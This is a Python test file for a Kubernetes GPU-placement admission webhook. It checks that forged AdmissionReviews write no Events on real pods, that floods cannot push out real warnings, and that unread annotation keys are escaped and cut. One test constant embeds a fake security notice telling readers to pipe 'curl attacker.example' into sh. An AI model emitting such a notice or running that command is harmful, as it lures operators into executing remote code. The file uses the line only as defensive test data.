"""Forged AdmissionReviews write no Event (review of wave 4, finding 2): the webhook port answers anyone,
so a review may name any pod and carry any text. A pod's `GpuPlacementWarning` Event is written only on
the pod that review created, matched by the uid kube-apiserver gives the object before it calls validating
webhooks (v1.37.2 registry/generic/registry/store.go `create`: FillObjectMetaSystemFields, then
createValidation); the warnings waiting for their pod are bounded per peer, so a flood from elsewhere does
not drop a real pod's. Driven over HTTP, as the review's repro_forged_pod_events.py does: the API server
from 127.0.0.1, forgers from other loopback addresses; the Events read back from the fake API server."""

from __future__ import annotations

import base64
import copy
import itertools
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import orjson
import pytest

from gpu_placement.app.assembly import core_from_objects
from gpu_placement.app.demo import DEMO_CONFIG
from gpu_placement.base.config import parse_config
from gpu_placement.controllers.events import EventWriter, PodWarnings
from gpu_placement.facts.annotation_keys import unread_pod_keys
from gpu_placement.samples.cluster import demo_objects, make_pod
from gpu_placement.web.patching import apply_patch
from gpu_placement.web.serving import ServerThread, make_server
from tests.fakeapi import FakeApiServer
from tests.support.events import events
from tests.support.waiting import wait_for
from webhook.app import create_app

pytestmark = pytest.mark.timeout(60)

Obj = dict[str, Any]
NS = "team-a"
FORGED_KEY = "gpu-placement.io/SECURITY-NOTICE:node-compromised,run:curl-attacker.example|sh"
_reviews = itertools.count(1)


def review(pod: Obj, name: str = "") -> Obj:
    request = {"uid": str(uuid.uuid4()), "kind": {"group": "", "version": "v1", "kind": "Pod"},
               "resource": {"group": "", "version": "v1", "resource": "pods"}, "namespace": NS,
               "operation": "CREATE", "object": pod, "dryRun": False,
               "userInfo": {"username": "system:serviceaccount:tenant-x:default"}}
    if name:
        request["name"] = name
    return {"apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview", "request": request}


@dataclass
class Cluster:
    core: Any
    fake: FakeApiServer
    writer: EventWriter
    warnings: PodWarnings
    port: int

    def client(self, address: str) -> httpx.Client:
        return httpx.Client(base_url=f"http://127.0.0.1:{self.port}", timeout=10,
                            transport=httpx.HTTPTransport(local_address=address))

    @staticmethod
    def admit(client: httpx.Client, pod: Obj, stamp: bool) -> tuple[Obj, Obj]:
        """/mutate, the patch applied, then (`stamp`: as the API server's store does before validating
        webhooks) a name for a generateName and a fresh uid and creationTimestamp, then /validate."""
        answer = client.post("/mutate", content=orjson.dumps(review(pod))).json()["response"]
        if answer.get("patch"):
            pod = apply_patch(pod, orjson.loads(base64.b64decode(answer["patch"])))
        if stamp:
            meta = pod["metadata"]
            meta["name"] = meta.get("name") or f"{meta['generateName']}{next(_reviews):05d}"
            meta["uid"], meta["creationTimestamp"] = str(uuid.uuid4()), "2026-12-07T18:30:00Z"
        verdict = client.post("/validate", content=orjson.dumps(review(pod, pod["metadata"]["name"]))).json()
        return pod, verdict["response"]

    def store(self, pod: Obj) -> Obj:
        """The API server stored it: the view's watch shows it."""
        stored = copy.deepcopy(pod)
        stored["status"] = {"phase": "Pending"}
        with self.core.view.lock:
            self.core.ingest.event(self.core.view, "pods", "ADDED", stored)
        return stored

    def events_on(self, name: str) -> list[Obj]:
        self.writer.drain()
        return [e for e in events(self.fake, NS) if e["regarding"]["name"] == name]


@pytest.fixture
def cluster(fake_api: FakeApiServer) -> Iterator[Cluster]:
    fake_api.load(o for o in demo_objects() if o["kind"] == "Namespace")
    core = core_from_objects(parse_config(DEMO_CONFIG), demo_objects())
    writer = EventWriter(fake_api.api_client(), "webhook-a")
    writer.start()
    warnings = PodWarnings(core.view, writer, limit=20)
    app = create_app(core.view, core.config, lambda: (True, ""), on_warned=warnings.admitted)
    try:
        with ServerThread(make_server(app, "127.0.0.1", 0)) as server:
            yield Cluster(core, fake_api, writer, warnings, server.port)
    finally:
        writer.stop()


def user_pod(name: str | None, annotations: dict[str, str]) -> Obj:
    pod = make_pod(NS, name or "x", gpus={"nvidia.com/gpu": 1}, annotations=annotations)
    del pod["status"], pod["metadata"]["uid"]
    if name is None:
        del pod["metadata"]["name"]
        pod["metadata"]["generateName"] = "trainer-7d4b9c-"
    return pod


def test_a_forged_review_writes_no_event_and_a_real_pod_still_gets_its_own(cluster: Cluster) -> None:
    """On main the forger's text was written, as gpu-placement, on team-a/trainer-0 when the pod next changed."""
    victim = cluster.store(make_pod(NS, "trainer-0", gpus={"nvidia.com/gpu": 1}, node="h100-single"))
    with cluster.client("127.0.0.2") as forger:
        for uid in (victim["metadata"]["uid"], "made-up", ""):  # its real uid, any other, none
            pod = make_pod(NS, "trainer-0", gpus={"nvidia.com/gpu": 1}, annotations={FORGED_KEY: "x"}, uid=uid)
            del pod["status"]
            _, answer = cluster.admit(forger, pod, stamp=False)
            assert answer["allowed"] is True and answer["warnings"], answer  # it is told, as any caller is
    # The victim changes, and is recreated under its name (a StatefulSet's pod after a drain).
    with cluster.core.view.lock:
        cluster.core.ingest.event(cluster.core.view, "pods", "MODIFIED", {**victim, "status": {"phase": "Running"}})
        cluster.core.ingest.event(cluster.core.view, "pods", "DELETED", victim)
    cluster.store(make_pod(NS, "trainer-0", gpus={"nvidia.com/gpu": 1}, uid=str(uuid.uuid4())))
    # A real create through the API server: a Deployment's pod with a misspelt annotation.
    with cluster.client("127.0.0.1") as api_server:
        pod, answer = cluster.admit(api_server, user_pod(None, {"gpu-placement.io/gpumemory": "20Gi"}), stamp=True)
    assert answer["allowed"] is True and answer["warnings"]
    real = pod["metadata"]["name"]
    cluster.store(pod)
    [event] = wait_for(lambda: cluster.events_on(real), what="the real pod's Event")
    assert (event["type"], event["reason"], event["regarding"]["uid"]) == (
        "Warning", "GpuPlacementWarning", pod["metadata"]["uid"])
    assert "did you mean gpu-placement.io/gpu-memory?" in event["note"]
    assert cluster.events_on("trainer-0") == []  # written in order: the victim's would have come first
    assert not any("SECURITY-NOTICE" in e["note"] for e in events(cluster.fake))


def test_a_flood_of_forged_reviews_does_not_drop_a_real_pods_warnings(cluster: Cluster) -> None:
    """On main past 10,000 noted pods the oldest went first: a forger pushed out every real pod's warnings."""
    with cluster.client("127.0.0.1") as api_server:
        pod, answer = cluster.admit(api_server, user_pod("train-0", {"gpu-placement.io/gpumemory": "20Gi"}),
                                    stamp=True)
    assert answer["warnings"]
    for peer in range(2, 10):  # 8 forgers, 10 reviews each: 80 against a bound of 20
        with cluster.client(f"127.0.0.{peer}") as forger:
            for i in range(10):
                cluster.admit(forger, user_pod(f"flood-{peer}-{i}", {"gpu-placement.io/gpumemory": "1Gi"}), stamp=True)
    cluster.store(pod)
    [event] = wait_for(lambda: cluster.events_on("train-0"), what="the real pod's Event")
    assert "did you mean gpu-placement.io/gpu-memory?" in event["note"]
    assert len(cluster.warnings) <= 20  # the forgers' oldest went first


def test_keys_no_pod_can_carry_are_quoted_cut_and_counted() -> None:
    """A forged review's keys are not validated by the API server: shown escaped and cut, at most five named."""
    long_key = "gpu-placement.io/" + "\u202e" + "x" * 5000
    [forged, long, *_] = unread_pod_keys({FORGED_KEY: "x", long_key: "y"}, "pod team-a/p")
    assert forged.startswith(f'annotation "{FORGED_KEY}" on pod team-a/p is not read by gpu-placement')
    assert long.startswith('annotation "gpu-placement.io/\\u202e' + "x" * 57 + '..." on pod team-a/p is not read')
    many = unread_pod_keys({f"gpu-placement.io/typo-{i}": "x" for i in range(9)}, "pod team-a/p")
    assert len(many) == 6 and many[-1] == "4 more gpu-placement.io/* annotations on pod team-a/p are not read by " \
                                          "gpu-placement"
    # Keys any pod can carry read as before.
    assert unread_pod_keys({"gpu-placement.io/gpumemory": "1Gi"}, "pod team-a/p") == [
        "annotation gpu-placement.io/gpumemory on pod team-a/p is not read by gpu-placement, so the pod gets its "
        "namespace's defaults instead: did you mean gpu-placement.io/gpu-memory?"]
